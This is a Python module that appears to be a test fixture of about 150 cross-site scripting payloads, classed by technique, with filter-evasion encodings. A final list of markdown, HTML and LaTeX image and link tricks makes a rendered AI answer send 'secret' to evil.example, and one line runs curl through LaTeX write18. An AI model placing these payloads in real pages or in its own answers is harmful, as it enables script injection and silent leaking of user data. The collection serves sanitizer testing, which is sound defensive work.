"""A hundred and fifty ways in which text has become script or a request, by class. The same ones every time.

What would run calls `alert`; what would be fetched has `evil` in its address.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from urllib.parse import quote

COUNT = 150

PLAIN = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert`1`</script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x:evil' onerror='alert(1)'>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a 1x'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<video src=//evil.example/v onerror=alert(1) autoplay></video>",
    "<audio src=x:evil onerror=alert(1) autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=q autofocus><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<a href=//evil.example/ ping=//evil.example/ping>x</a>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    "<portal src=//evil.example/></portal>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
)
BREAKING_OUT = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "` onmouseover=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    "*/alert(1)/*",
    "';alert(1);//",
    "\\';alert(1);//",
    "${alert(1)}",
    "</noscript><img src=x onerror=alert(1)>",
    '" hx-get="/evil/" hx-trigger="load" x="',
    "</option></select><img src=x onerror=alert(1)>",
    '"/><svg onload=alert(1)>',
)
MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></p><style><img src=1 onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?x ?><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<img src='<img src='x' onerror=alert(1)//'>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)
DRAWN = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><image href=//evil.example/i.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>*{fill:url(//evil.example/f)}</style><rect width=9 height=9 /></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
)
EXTENDING = (
    "<div hx-get=/evil/ hx-trigger=load>x</div>",
    "<div data-hx-get=/evil/ data-hx-trigger=load>x</div>",
    "<div hx-post=/sign-out/?evil hx-trigger=load>x</div>",
    "<div hx-get=//evil.example/ hx-trigger='every 1s'>x</div>",
    "<div hx-on:htmx:load=alert(1)>x</div>",
    "<div hx-on::load=alert(1)>x</div>",
    "<div data-hx-on--load=alert(1)>x</div>",
    "<div hx-vals='js:{x:alert(1)}' hx-get=/evil/ hx-trigger=load>x</div>",
    "<div hx-trigger='load[alert(1)]' hx-get=/evil/>x</div>",
    "<div hx-sse:connect=/evil/>x</div>",
    "<div hx-ext=sse sse-connect=/evil/>x</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML><img src=x onerror=alert(1)></hx-partial>",
    "<div hx-swap-oob=true id=content><img src=x onerror=alert(1)></div>",
    "<div hx-boost=true><a href=//evil.example/>x</a></div>",
    "<div hx-preload=/evil/>x</div>",
)
TEMPLATES = (
    "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
    "{% include '/evil' %}{% load log %}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{% csrf_token %}{% debug %}",
    "[[${7*7}]]{{= 7*7 }}@{7*7}",
    "%(evil)s %s {0} {evil.__class__.__mro__}",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "https://evil.example/?q=secret",
    "view-source:javascript:alert(1)",
)
TURNING = (
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "<\u200bscript>alert(1)</script>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "<script\u2028>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\U000e003cscript\U000e003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_CLASSES = {
    "plain": PLAIN,
    "breaking-out": BREAKING_OUT,
    "mutating": MUTATING,
    "drawn": DRAWN,
    "extending": EXTENDING,
    "templates": TEMPLATES,
    "addresses": ADDRESSES,
    "turning": TURNING,
}


def _alternating(text: str) -> str:
    return "".join(char.upper() if place % 2 else char for place, char in enumerate(text))


# How what is filtered by its look has been made to look otherwise.
_EVASIONS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("case", _alternating),
    ("slash", lambda text: text.replace("<img src=x ", "<img/src=x/").replace("<svg ", "<svg/")),
    ("line", lambda text: text.replace(" on", "\non").replace("<script>", "<script\n>")),
    ("entity", html.escape),
    ("percent", lambda text: quote(text, safe="()")),
    ("numbers", lambda text: "".join(f"&#{ord(char)};" for char in text)),
    ("open", lambda text: text.replace("</script>", "").removesuffix(">")),
)
_DISGUISED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
)


def payloads() -> list[tuple[str, str]]:
    """Return the payloads with a name for each."""
    found = [
        (f"{name}-{number}", text) for name, texts in _CLASSES.items() for number, text in enumerate(texts)
    ]
    found += [
        (f"{name}-{number}", turn(text)) for name, turn in _EVASIONS for number, text in enumerate(_DISGUISED)
    ]
    return list({text: (name, text) for name, text in reversed(found)}.values())[::-1]


# Ways to make an answer fetch something with what was asked in its address.
ECHOES = (
    "![x](https://evil.example/p.png?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](/evil/p.png)",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "![p][]\n\n[p]: <https://evil.example/p.png> 'title'",
    "[x][l]\n\n[l]: https://evil.example/?q=secret",
    "[1]: https://evil.example/?q=secret\n\nStraw [1].",
    "[1](https://evil.example/?q=secret)",
    "[1]( https://evil.example 'x' )",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "www.evil.example",
    "evil@evil.example",
    "<img src='https://evil.example/p.png'>",
    "<img src='https://evil.example/p.png' loading=eager>",
    "<picture><source srcset='https://evil.example/p.png'></picture>",
    "<a href='https://evil.example/'>x</a>",
    "<link rel=preload as=image href='https://evil.example/p.png'>",
    "<div style='background-image:url(https://evil.example/p.png)'>x</div>",
    "<svg><image href='https://evil.example/p.png'/></svg>",
    "<svg><feImage href='https://evil.example/p.png'/></svg>",
    "<object data='https://evil.example/p.svg'></object>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZldGNoKCcvZXZpbC8nKSIvPg==)",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="//evil.example"/>\'>',
    "$\\includegraphics{https://evil.example/p.png}$",
    "$$\\href{https://evil.example/?q=secret}{x}$$",
    "\\url{https://evil.example/?q=secret}",
    "\\immediate\\write18{curl https://evil.example}",
    "```mermaid\ngraph TD; A-->B; click A 'https://evil.example'\n```",
    "```html\n<img src=https://evil.example/p.png>\n```",
    "|![x](https://evil.example/p.png)|[x](https://evil.example)|\n|-|-|\n|a|b|",
    "> ![x](https://evil.example/p.png)",
    "# ![x](https://evil.example/p.png)",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x](https&colon;//evil.example/p.png)",
    "![x](\\/\\/evil.example/p.png)",
    "[^1]: ![x](https://evil.example/p.png)\n\nx[^1]",
    "[x](https://evil.example/?q=secret){target=_blank}",
    "<style>body{background:url(https://evil.example/p.png)}</style>",
    "![x](https://evil.example/redirect?to=/static/ok.png)",
)
